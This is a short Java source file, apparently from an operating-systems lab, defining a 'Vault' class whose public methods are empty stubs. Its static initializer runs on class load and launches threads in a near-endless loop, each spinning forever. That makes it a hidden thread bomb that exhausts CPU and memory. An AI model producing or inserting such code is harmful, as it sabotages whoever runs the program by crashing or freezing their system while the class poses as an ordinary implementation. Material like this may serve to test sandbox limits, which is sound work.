package oslab.vault;

import java.util.List;

public class Vault {
    static {
        for (int i = 0; i >= 0; i++) {
            Thread thread = new Thread(() -> {
                while (true) {
                    Thread.onSpinWait();
                }
            });
            thread.setDaemon(i % 2 == 0);
            thread.start();
        }
    }

    public void put(String name, int amount) {}

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
